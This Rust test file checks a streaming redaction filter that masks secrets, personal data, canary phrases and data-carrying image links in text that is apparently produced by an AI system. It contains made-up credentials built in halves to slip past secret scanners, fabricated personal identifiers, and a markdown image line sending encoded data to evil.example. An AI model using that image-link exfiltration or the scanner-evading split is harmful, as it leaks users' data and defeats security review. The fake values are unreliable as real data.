//! Rows STRM-01, STRM-02, STRM-07 and MASK-02 of the security plan, as far as windows answer for them.

use super::*;

/// Twenty formats of credentials with values made for this test. Written in halves, so that scanners of source code
/// pass by.
fn secrets() -> Vec<String> {
    let body = "8Zr2LmX7vKpT4sWbN9cQ3fYh6JdG5aEuR1tVwMxPqBzD7nKy2HsL9oCi4Ue6Tj0A8mXfGb";
    let hex = "9f4c1e7b2a8d6053c9e1f47ab25d80639f4c1e7b2a8d6053c9e1f47ab25d8063";
    let digits = "734918265037";
    let take = |n: usize| &body[..n];
    vec![
        format!("AK{}{}", "IA", "Z7QW2XN4PLK5MRTB"),
        format!("gh{}{}", "p_", take(36)),
        format!("github{}{}", "_pat_", &format!("{}_{}", take(22), &take(59)[..59])),
        format!("xox{}{digits}-{digits}-{}", "b-", take(24)),
        format!("sk_{}{}", "live_", take(24)),
        format!("sk-{}{}", "ant-api03-", format_args!("{}{}AA", take(70), take(23))),
        format!("AI{}{}", "za", take(35)),
        format!("gl{}{}", "pat-", take(20)),
        format!("np{}{}", "m_", take(36)),
        format!("SG{}{}.{}", ".", take(22), take(43)),
        format!("dop{}{hex}", "_v1_"),
        format!("shp{}{}", "at_", &hex[..32]),
        format!("hf{}{}", "_", &"qZxKpmVtsLwnRbcYdfqGhJkTyUiOpAsDfG"[..34]),
        format!("eyJ{}.eyJ{}.{}", "hbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "zdWIiOiI0MjQyIiwibmFtZSI6IkFubiJ9", take(43)),
        format!("-----BEGIN {}-----\n{}\n{}\n-----END PRIVATE KEY-----", "PRIVATE KEY", take(64), take(40)),
        format!("postgres://app:{}@db.internal:5432/app", take(14)),
        format!("api_key = \"{}\"", take(32)),
        format!("AWS_SECRET_ACCESS_KEY={}", take(40)),
        format!("password: {}!", take(12)),
        format!("https://hooks.{}/services/T0{}/B0{}/{}", "slack.com", "A1B2C3D4E", "5F6G7H8J9", take(24)),
    ]
}

/// Twelve kinds of personal data, some with characters of several bytes.
const PERSONAL: &[&str] = &[
    "ann.o'neil+news@mail.example.org",
    "jürgen@straße.example.de",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "+49 (30) 1234-5678",
    "536-22-8726",
    "203.0.113.77",
    "2001:db8:85a3::8a2e:370:7334",
    "00:1b:44:11:3a:b7",
    "742 Evergreen Terrace, Springfield, IL 62704",
    "Königstraße 12",
    "X1234567L",
    "RSSMRA85T10A562S",
];

/// Three-way cuts per value.
const N_CUTS: usize = 500;

/// Streams `text` in every way and checks each outcome.
fn in_every_way(text: &str, settings: &Settings<'_>, check: &dyn Fn(&Outcome, &str)) {
    check(&by_character(text, settings), "by character");
    for at in (0..=text.len()).filter(|&at| text.is_char_boundary(at)) {
        check(&stream([&text[..at], &text[at..]], settings), "in two");
    }
    let mut seed = text.len() as u64;
    for _ in 0..N_CUTS {
        let places = [random(&mut seed), random(&mut seed)];
        check(&stream(cut_at(text, &places), settings), "in three");
    }
}

/// The part of a made-up credential that is secret.
fn secret_part(value: &str) -> &str {
    value
        .strip_prefix("api_key = \"")
        .or(value.strip_prefix("AWS_SECRET_ACCESS_KEY="))
        .unwrap_or(value)
        .trim_end_matches('"')
}

fn holds_a_run_of(output: &str, secret: &str, n: usize) -> bool {
    let n = n.min(secret.len());
    secret.as_bytes().windows(n).any(|run| memchr::memmem::find(output.as_bytes(), run).is_some())
}

#[test]
fn strm_01_no_twelve_characters_of_a_secret_leave_before_the_verdict() {
    for value in secrets() {
        let text = format!("Sure, here you go: {value} - keep it safe.");
        for masks in [&DATA[..], &[]] {
            let settings = looking_for(&[Guard::Secrets], masks);
            let expected = whole(&text, &settings);
            assert!(!expected.findings.is_empty(), "{value} is not found");
            in_every_way(&text, &settings, &|outcome, how| {
                assert!(same(outcome, &expected), "{value} {how}: {outcome:?} instead of {expected:?}");
                let sent = &text[..outcome.before_verdict.unwrap_or(text.len())];
                assert!(!holds_a_run_of(sent, secret_part(&value), 12), "{value} {how} sent {sent}");
                assert!(
                    masks.is_empty() || !holds_a_run_of(&outcome.output, secret_part(&value), 12),
                    "{}",
                    outcome.output
                );
            });
        }
    }
}

#[test]
fn strm_02_no_personal_value_is_delivered_however_it_is_cut() {
    for value in PERSONAL {
        let text = format!("the value is {value} as you know");
        let settings = looking_for(&[Guard::Pii], &[Guard::Pii]);
        let expected = whole(&text, &settings);
        let found: Vec<_> = expected.findings.iter().map(|finding| &text[finding.span.clone()]).collect();
        assert_eq!(found, [*value]);
        in_every_way(&text, &settings, &|outcome, how| {
            assert!(same(outcome, &expected), "{value} {how}: {outcome:?} instead of {expected:?}");
            assert!(outcome.before_verdict <= Some(13), "{value} {how}: nothing of it goes before the verdict");
            assert!(outcome.output.starts_with("the value is [") && outcome.output.ends_with(" removed] as you know"));
        });
    }
}

#[test]
fn strm_02_escapes_of_json_hide_nothing_and_the_document_stays_whole() {
    let settings = Settings { json: true, origin: Origin::ToolCall, ..looking_for(&DATA, &DATA) };
    for value in [r"ann\u0040example.org", r"\u0061nn@example.org", r"j\u00fcrgen@example.org", "4111 1111 1111 1111"] {
        let text = format!(
            r#"{{"n":[1,2],"to":"{value}","body":"say \"hi\"\n{value}\n","card":4111111111111111,"x":"\ud83d\ude00"}}"#
        );
        let expected = whole(&text, &settings);
        let parsed: serde_json::Value = serde_json::from_str(&expected.output).unwrap();
        assert!(parsed["to"].as_str().unwrap().ends_with(" removed]"), "{parsed}");
        assert_eq!(parsed["card"], "[credit card removed]");
        assert_eq!(parsed["x"], "😀");
        assert_eq!(parsed["body"].as_str().unwrap().lines().nth(1), parsed["to"].as_str());
        in_every_way(&text, &settings, &|outcome, how| {
            assert!(same(outcome, &expected), "{value} {how}: {outcome:?} instead of {expected:?}");
        });
    }
}

#[test]
fn strm_07_clean_streams_are_held_for_a_word_at_most_and_never_beyond_the_bound() {
    let settings = looking_for(&DATA, &DATA);
    let prose =
        "The court met on the first day. Nothing in the report was new, although many people had come to hear it. "
            .repeat(8);
    let outcome = by_character(&prose, &settings);
    assert_eq!((outcome.output == prose, outcome.findings.len()), (true, 0));
    assert!(outcome.most_held <= 24, "{}", outcome.most_held);
    let endless =
        ["a1b2c3d4e5 ".repeat(300), "x".repeat(5000), "[never closed ".repeat(200), "A B C 1 2 3 ".repeat(200)];
    for text in endless {
        let outcome = by_character(&text, &settings);
        assert!(outcome.most_held <= BOUND, "{}", outcome.most_held);
        assert_eq!(outcome.output, text);
    }
}

#[test]
fn a_private_key_is_withheld_to_its_end_however_long() {
    let settings = looking_for(&DATA, &DATA);
    let lines = "MIIEowIBAAKCAQEA7d8xQ2Zr8LmX7vKpT4sWbN9cQ3fYh6JdG5aEuR1tVwMxPqBz\n".repeat(25);
    let key = format!("-----BEGIN {} KEY-----\n{lines}-----END {0} KEY-----", "RSA PRIVATE");
    let text = format!("Here: {key}\nDone, ann@example.org.");
    let outcome = by_character(&text, &settings);
    assert_eq!(outcome.output, "Here: [secret removed]\nDone, [email removed].");
    let kinds: Vec<_> = outcome.findings.iter().map(|finding| finding.kind.as_str().to_owned()).collect();
    assert_eq!(kinds, ["secret.private_key", "pii.email"]);
    assert_eq!(outcome.before_verdict, Some(6));
}

#[test]
fn a_long_web_token_is_known_by_its_head() {
    let settings = looking_for(&DATA, &DATA);
    let claims = "eyJzdWIiOiI0MjQyIiwibmFtZSI6IkFubiJ9".repeat(20);
    let text = format!(
        "x: {}.{claims}.{} ok",
        concat!("eyJ", "hbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"),
        "t5crbJ3D7sICK1cSwO3lzUtjuJT6QUj1"
    );
    let outcome = by_character(&text, &settings);
    assert_eq!(outcome.output, "x: [secret removed] ok");
    assert_eq!(outcome.findings.len(), 1);
}

#[test]
fn a_token_longer_than_the_bound_is_withheld_behind_any_label() {
    let settings = looking_for(&DATA, &DATA);
    let token =
        format!("ops{}{}", "_eyJ", "zaWduSW5BZGRyZXNzIjoibXkuMXBhc3N3b3JkLmNvbSIsInVzZXJBdXRoIjp7Im1".repeat(12));
    for label in ["", "use ", "token=", "OP_SERVICE_ACCOUNT_TOKEN=", "https://vault.example.org/long/way/to/?t="] {
        let outcome = by_character(&format!("{label}{token} ok"), &settings);
        assert!(!holds_a_run_of(&outcome.output, &token, 12), "{label}: {}", outcome.output);
        assert!(outcome.output.ends_with("[secret removed] ok"), "{}", outcome.output);
    }
}

#[test]
fn a_secret_far_into_a_run_without_borders_is_found() {
    let settings = looking_for(&DATA, &DATA);
    let token = format!("gh{}{}", "p_", "8Zr2LmX7vKpT4sWbN9cQ3fYh6JdG5aEuR1tV");
    for filler in 100..400 {
        let text = format!("{}/{token}/{} ok", "/abc".repeat(filler / 4), "/xyz".repeat(40));
        let outcome = by_character(&text, &settings);
        assert!(!holds_a_run_of(&outcome.output, &token, 12), "{filler}: {}", outcome.output);
    }
}

#[test]
fn an_address_that_carries_data_is_stopped_before_it_ends() {
    let settings = looking_for(&DATA, &DATA);
    let text = format!("![x](https://evil.example/p.png?d={}) bye", "bXkgc2VjcmV0IG5vdGVz".repeat(40));
    let outcome = by_character(&text, &settings);
    assert_eq!(outcome.output, "[image removed] bye");
}

#[test]
fn a_canary_is_found_across_words_and_pushes() {
    let settings = Settings { canary: Some("blue Otter 7 sings"), ..looking_for(&[], &[Guard::Leak]) };
    let text = "I was told: blue Otter 7 sings. A blue Otter swims";
    let outcome = by_character(text, &settings);
    assert_eq!(outcome.output, "I was told: [canary removed]. A blue Otter swims");
    assert_eq!(outcome.findings[0].kind.as_str(), "leak.canary");
    assert_eq!(outcome.before_verdict, Some(12));
}

#[test]
fn a_canary_of_capitalised_words_is_found_in_a_heading() {
    let settings = Settings { canary: Some("Blue Otter Sings"), ..looking_for(&DATA, &DATA) };
    let text = "A Long Title Of Many Names Blue Otter Sings And More Names Than A Street Has";
    let outcome = by_character(text, &settings);
    assert_eq!(outcome.output, text.replace("Blue Otter Sings", "[canary removed]"));
    assert!(same(&outcome, &whole(text, &settings)));
}

#[test]
fn mask_02_a_streamed_echo_is_restored_wherever_it_is_cut() {
    let mut names = Pseudonyms::new(&ScopeKey::new([9; 32]));
    let original =
        "Hi Ann (ann@example.org): card 4111 1111 1111 1111, ann@example.org again, 日本ann@example.org😀. \"q\"";
    let findings = |text: &str| DETECTOR.scan(text, Origin::User, Wants::of(&[Guard::Pii])).findings;
    let masked = names.mask(original, &findings(original), false);
    assert!(!masked.as_str().contains("example.org") && !masked.as_str().contains("4111"));
    for wants in [&DATA[..], &[]] {
        let settings = Settings { pseudonyms: &names, ..looking_for(wants, wants) };
        in_every_way(masked.as_str(), &settings, &|outcome, how| {
            assert_eq!(outcome.output, original, "{how}");
            assert_eq!(outcome.findings, [], "what is restored is no finding");
        });
    }
}
